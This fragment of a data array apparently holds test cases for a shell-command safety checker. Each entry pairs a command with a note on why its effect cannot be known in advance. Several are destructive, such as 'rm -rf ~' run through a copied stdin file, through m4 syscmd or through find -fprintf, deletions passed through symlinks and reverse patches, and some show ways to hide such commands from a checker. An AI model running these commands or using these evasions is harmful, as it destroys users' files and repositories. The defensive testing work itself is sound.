  ["cp /dev/stdin ./t <<< 'rm -rf ~'; chmod +x t; ./t", "deliberate: a copy of stdin run by its path holds the text fed to it, known only as that text"],
  ["cp /dev/stdin ./t <<< 'ls'; chmod +x t; ./t", "deliberate: a copy of stdin run by its path holds the text fed to it, known only as that text"],
  ["echo 'HOME=/tmp/h' > x.sh; source x.sh; rm -rf ~", "deliberate: a file the call wrote and then sources is read as that text, run in this shell: its assignments hold after it"],
  ["cp -P ./link /tmp/l; rm -rf /tmp/l/", "deliberate: a path below a copy that keeps links (cp -P/-a, rsync -a, an extraction) may pass through a link, which the copy carries: known only when it runs"],
  ["cp -a ./dir /tmp/x; rm -rf /tmp/x/link/", "deliberate: a path below a copy that keeps links (cp -P/-a, rsync -a, an extraction) may pass through a link, which the copy carries: known only when it runs"],
  ["rsync -a ./dir/ /tmp/x/; rm -rf /tmp/x/link/", "deliberate: a path below a copy that keeps links (cp -P/-a, rsync -a, an extraction) may pass through a link, which the copy carries: known only when it runs"],
  ["tar -xf a.tar -C /tmp/x && rm -rf /tmp/x/h/*", "deliberate: a path below a copy that keeps links (cp -P/-a, rsync -a, an extraction) may pass through a link, which the copy carries: known only when it runs"],
  ["rsync -a src/ e/; bash e/a.sh", "deliberate: a program an rsync copy carries is a file of another's text, known only when it runs"],
  ["find . -maxdepth 0 -fprintf l 'git push\\n'; sh l", "deliberate: the file find's -fprint actions write holds what it finds, known only when it runs"],
  ["find ~ -fprintf l 'rm -rf %p\\n'; sh l", "deliberate: the file find's -fprint actions write holds what it finds, known only when it runs"],
  ["git diff > p.patch; git apply -R p.patch", "deliberate: a reverse patch of a diff the call wrote undoes changes not known here"],
  ["git diff HEAD > p && patch -R -p1 < p", "deliberate: a reverse patch of a diff the call wrote undoes changes not known here"],
  ["m4 -D 'x=syscmd(git push)' <<< x", "deliberate: m4's -D macro text is read as m4 code, whose syscmd runs a command"],
  ["m4 -D 'x=syscmd(rm -rf ~)' <<< x", "deliberate: m4's -D macro text is read as m4 code, whose syscmd runs a command"],
  ["shopt -s extglob; rm -r @(.git)", "deliberate: an extglob group led by a dot may match dot names: a command that holds one is not known"],
];
